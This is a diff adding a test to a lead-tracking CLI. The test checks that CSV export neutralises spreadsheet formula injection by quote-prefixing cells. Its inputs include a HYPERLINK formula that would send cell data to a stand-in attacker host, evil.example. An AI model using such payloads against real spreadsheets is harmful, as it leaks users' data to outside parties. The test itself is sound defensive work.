@@ -103,3 +103,14 @@ def test_recount_repairs_counts_that_drifted(two_leads: Cli, tmp_path: Path) -> 
     recounted = two_leads("db", "recount-reports")
     assert (recounted.exit_code, recounted.output) == (0, "report counts rebuilt from the leads\n")
     assert two_leads("report", "--csv", "funnel").output.splitlines()[1] == "new,2,100.0"
+
+
+def test_csv_cells_never_start_a_formula(cli: Cli) -> None:
+    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(A1:A9)", "-2+3", "+1+1")
+    for n, service in enumerate(formulas):
+        added = cli("leads", "add", "--name", service, "--email", f"f{n}@example.com", "--service", service)
+        assert added.exit_code == 0, added.output
+    result = cli("report", "--csv", "services")
+    assert result.exit_code == 0, result.output
+    services = {row[0] for row in csv.reader(io.StringIO(result.output))}
+    assert services == {"Service", *(f"'{formula}" for formula in formulas)}
